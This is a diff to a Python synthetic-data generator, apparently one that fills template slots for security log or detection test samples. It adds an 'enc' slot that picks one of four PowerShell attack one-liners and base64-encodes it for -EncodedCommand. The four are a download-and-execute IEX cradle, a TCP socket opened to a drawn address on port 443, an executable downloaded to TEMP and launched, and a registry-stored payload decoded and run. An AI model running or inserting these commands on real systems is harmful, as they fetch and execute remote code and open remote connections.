@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import random
 from collections.abc import Callable, Mapping
 from typing import NamedTuple
@@ -94,6 +95,20 @@ def _password(rng: random.Random) -> str:
     )
 
 
+def _encoded(rng: random.Random) -> str:
+    """A script as `-EncodedCommand` takes it."""
+    name, address = draw_name(rng), draw_address(rng)
+    script = rng.choice(
+        (
+            f"IEX (New-Object Net.WebClient).DownloadString('http://{address}/{name}')",
+            f"$c=New-Object Net.Sockets.TCPClient('{address}',443);$s=$c.GetStream()",
+            f"iwr http://{address}/{name}.exe -OutFile $env:TEMP\\{name}.exe; saps $env:TEMP\\{name}.exe",
+            f"IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((gp HKCU:\\Software\\{name}).{name})))",
+        )
+    )
+    return base64.b64encode(script.encode("utf-16-le")).decode()
+
+
 SLOTS: dict[str, str | Drawer] = {
     "hklm": "«HKLM¦HKLM¦HKLM¦hklm¦HKEY_LOCAL_MACHINE¦HKey_Local_Machine»",
     "file": _file,
@@ -116,6 +131,7 @@ SLOTS: dict[str, str | Drawer] = {
     "hex": lambda rng: f"{rng.getrandbits(40):016X}",
     "n": lambda rng: str(rng.randrange(1, 60)),
     "pid": lambda rng: str(rng.randrange(100, 9000)),
+    "enc": _encoded,
     "port": lambda rng: str(
         rng.choice((22, 53, 80, 135, 139, 389, 443, 445, 1433, 3306, 3389, 5432, 5985, 8080, 8443, 9200))
     ),
